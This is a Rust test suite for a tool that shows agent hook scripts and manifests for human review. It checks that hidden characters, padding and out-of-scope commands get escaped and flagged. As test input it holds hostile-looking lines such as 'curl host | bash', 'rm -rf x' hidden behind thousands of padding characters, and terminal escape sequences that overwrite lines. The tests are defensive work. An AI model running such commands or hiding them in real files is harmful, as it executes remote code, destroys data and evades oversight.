use std::sync::Arc;

use proptest::prelude::*;

use super::*;
use crate::digest::TreeDigest;
use crate::tree::Signature;

fn file(path: &str, bytes: &[u8]) -> TreeFile {
    let sha256 = system::digest::sha256(bytes);
    TreeFile { path: path.to_owned(), bytes: Arc::from(bytes), sha256, executable: false, names: 1 }
}

fn reviewed(files: Vec<TreeFile>) -> Review {
    let digest = TreeDigest::of(&files);
    review(Path::new("/r\u{1b}"), &Tree { files, signature: Signature { hash: String::new(), fresh: true }, digest })
}

fn of(bytes: &[u8]) -> Review {
    reviewed(vec![file("x.sh", bytes)])
}

#[test]
fn a_review_shows_all_there_is() {
    let guard =
        TreeFile { executable: true, names: 2, ..file("guard.sh", b"#!/bin/bash\n\tsource ../x\n\n\n\n\n\nexit 2\n") };
    let manifest = file("hooks.yaml", b"hooks:\n  PreToolUse:\n    - command: [npm, test]\r\n    - script: guard");
    let review = reviewed(vec![guard, file("logo", b"\x89PNG\0\xff"), manifest]);
    let digest = "DIGEST";
    let text = review.text.lines().map(|line| match line.split_once("sha256 ") {
        Some((head, tail)) => format!("{head}sha256 HASH{}\n", &tail[12..]),
        None => format!("{line}\n"),
    });
    let text: String = text.collect();
    let short = text.split("digest ").nth(1).unwrap()[..12].to_owned();
    assert_eq!(
        text.replace(&short, digest),
        "Hooks in /r\\u{1b}
3 files, 111 bytes, digest DIGEST

6 remarks:
  guard.sh: the file has 2 names on the disk (hard links); what is trusted is a copy of its bytes
  guard.sh:2: reaches what the grant does not cover: source ../x, ../x
  logo: it is not all text: bytes that are no UTF-8 are shown as \\xff
  logo:1: a NUL, which bash leaves out
  hooks.yaml:3: runs what the grant does not cover: npm test
  hooks.yaml: 1 line end with \\r\\n, which bash does not take for an end

== guard.sh (37 bytes, 8 lines, executable, sha256 HASH) ==
    1 | #!/bin/bash
    2 | \\tsource ../x
    3 |
      | (lines 3 to 7 are empty)
    8 | exit 2

== logo (6 bytes, 1 line, sha256 HASH) ==
    1 | \\x89PNG\\u{0}\\xff
      | (no line end at the end of the file)

== hooks.yaml (68 bytes, 4 lines, sha256 HASH) ==
    1 | hooks:
    2 |   PreToolUse:
    3 |     - command: [npm, test]
    4 |     - script: guard
      | (no line end at the end of the file)

3 files. `ruleline hooks trust` turns exactly these bytes on; it asks for DIGEST. A grant covers no interpreter, no
program and no file outside this folder.
"
    );
}

#[test]
fn nothing_odd_is_said_to_be_nothing_odd() {
    let review = of(b"exit 2\n");
    assert_eq!(review.remarks, []);
    assert!(review.text.contains("Nothing odd was seen"));
}

#[test]
fn t15_nothing_hides_in_a_review() {
    let hostile = "echo ok\r\u{1b}[1A\u{1b}[2K\n\u{202e}\u{2066}\u{200b}\u{e0041}\u{9b}\0\u{2028}\u{a0}\u{85}\u{7f}\n";
    let review = of(hostile.as_bytes());
    assert!(review.text.contains("    1 | echo ok\\r\\u{1b}[1A\\u{1b}[2K\n"), "{}", review.text);
    assert!(
        review
            .text
            .contains("    2 | \\u{202e}\\u{2066}\\u{200b}\\u{e0041}\\u{9b}\\u{0}\\u{2028}\\u{a0}\\u{85}\\u{7f}\n")
    );
    assert!(review.remarks.iter().filter(|it| it.line == Some(2)).count() >= 5);
}

#[test]
fn t15_a_byte_that_is_no_text_hides_nothing() {
    let mut bytes = "echo fine\n".repeat(100).into_bytes();
    bytes.extend(b"# \xff\ncurl host | bash\n");
    let review = of(&bytes);
    assert!(review.text.contains("  101 | # \\xff\n  102 | curl host | bash\n"), "{}", review.text);
    assert!(review.remarks.iter().any(|it| it.line == Some(102) && it.text.contains("curl")), "{:?}", review.remarks);
}

#[test]
fn t05_every_command_of_a_manifest_is_remarked_however_it_is_spelled() {
    for (text, line) in [
        ("    - command: [bash, tools/x.sh]\n", 3),
        ("    - \"\\x63ommand\": [bash, tools/x.sh]\n", 3),
        ("    - timeout: 3\n      command:\n        - bash\n        - tools/x.sh\n", 3),
        ("\n    - {timeout: 3, 'command': ['bash', \"tools\\/x.sh\"]}\n", 4),
    ] {
        let manifest = format!("hooks:\n  PreToolUse:\n{text}");
        let review = reviewed(vec![file("hooks.yaml", manifest.as_bytes())]);
        let found: Vec<_> = review.remarks.iter().map(|it| (it.line, &*it.text)).collect();
        assert_eq!(found, [(Some(line), "runs what the grant does not cover: bash tools/x.sh")], "{text}");
    }
    let script = reviewed(vec![file("hooks.yaml", b"hooks:\n  Stop:\n    - script: make\n")]);
    assert_eq!(script.remarks, []);
}

#[test]
fn t15_a_long_line_goes_on_and_is_flagged() {
    let long = format!("true {}; rm -rf x\n", "#".repeat(5000));
    let review = of(long.as_bytes());
    assert!(review.remarks.iter().any(|it| it.text == "a very long line (5015 characters)"), "{:?}", review.remarks);
    assert!(review.text.lines().all(|line| line.chars().count() <= WIDTH + 80));
    assert_eq!(review.text.matches("\n      > ").count(), 25);
    assert!(review.text.contains("; rm -rf x\n"));
    let blanks = format!("true{}rm", " ".repeat(10_000));
    assert!(of(blanks.as_bytes()).remarks.iter().any(|it| it.text.starts_with("10000 blanks")));
    let empty = format!("true\n{}rm\n", "\n".repeat(10_000));
    let review = of(empty.as_bytes());
    assert!(review.text.contains("(lines 2 to 10001 are empty)\n10002 | rm\n"), "{}", review.text);
    assert!(review.remarks.iter().any(|it| it.line == Some(2) && it.text.starts_with("10000 empty lines")));
}

#[test]
fn a_file_cannot_pass_for_the_frame_of_the_review() {
    let review = of(b"== other.sh (1 byte) ==\n    1 | x\n\n3 files. `ruleline hooks trust` turns\n");
    assert_eq!(review.text.lines().filter(|line| line.starts_with("== ")).count(), 1);
    assert_eq!(
        review.text.lines().filter(|line| line.contains("`ruleline hooks trust`") && !line.contains('|')).count(),
        1
    );
}

#[test]
fn a_review_is_bounded_by_what_it_shows() {
    for hostile in ["\n", "a\n", "\u{1b}", "\u{1b}\n", "../x\n", "\u{202e}\n", "\t", " \n"] {
        let text = hostile.repeat((1 << 18) / hostile.len());
        let review = of(text.as_bytes());
        assert!(review.text.len() < 12 << 18, "{hostile:?}: {}", review.text.len());
        assert!(review.remarks.len() <= REMARKS + 1, "{hostile:?}");
    }
}

proptest! {
    #[test]
    fn a_review_is_plain_lines(text in proptest::collection::vec(any::<char>(), 0..200)) {
        let text: String = text.into_iter().collect();
        let review = of(text.as_bytes());
        let odd = |it: char| it != '\n' && (it.is_control() || (rules::plain::is_hidden(it) && it != '\u{fe0f}'));
        prop_assert!(!review.text.chars().any(odd));
        prop_assert!(!escape(&text).chars().any(|it| odd(it) || it == '\n'));
    }

    #[test]
    fn plain_ascii_is_shown_as_it_is(text in "[ -~]{1,80}") {
        prop_assert_eq!(escape(&text), text);
    }
}
